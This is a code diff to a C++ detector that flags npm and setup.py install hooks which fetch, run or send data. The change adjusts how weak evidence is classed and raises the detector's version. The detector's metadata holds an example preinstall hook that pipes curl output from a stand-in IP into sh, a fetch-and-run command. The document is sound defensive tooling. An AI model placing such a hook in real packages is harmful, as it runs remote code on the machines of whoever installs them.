@@ -212,12 +212,14 @@ class InstallHook final : public Detector {
       const Evidence& seen = found->second->evidence;
       const bool hint = seen.rule == k_hint_rule;
       const std::string rule = hint ? "D01" : seen.rule;
+      // That what is saved and what is run have one name is a guess: installers of programs read so too.
+      const bool weak = hint ? !seen.value("saved").empty() : seen.cls == EvidenceClass::supporting;
       const bool runtime = seen.rule == "L07";
       PlacedEvidence more = placed;
       more.evidence =
           evidence_of(k_rows[runtime ? 2 : 0], placed.evidence.text + " runs a file with " + rule + ": " + seen.text);
       more.evidence.line = placed.evidence.line;
-      if (seen.cls == EvidenceClass::supporting && !runtime && !hint) more.evidence.cls = EvidenceClass::supporting;
+      if (weak && !runtime) more.evidence.cls = EvidenceClass::supporting;
       out.add(std::move(more));
     }
   }
@@ -279,7 +281,7 @@ class InstallHook final : public Detector {
 
 const util::Registered<InstallHook> registered{{
     .id = "install-hook",
-    .version = 3,
+    .version = 4,
     .summary = "install hooks of npm packages and setup.py that fetch, run or send",
     .example = "\"preinstall\": \"curl -s http://192.0.2.1/x | sh\"",
     .rules = k_rows,
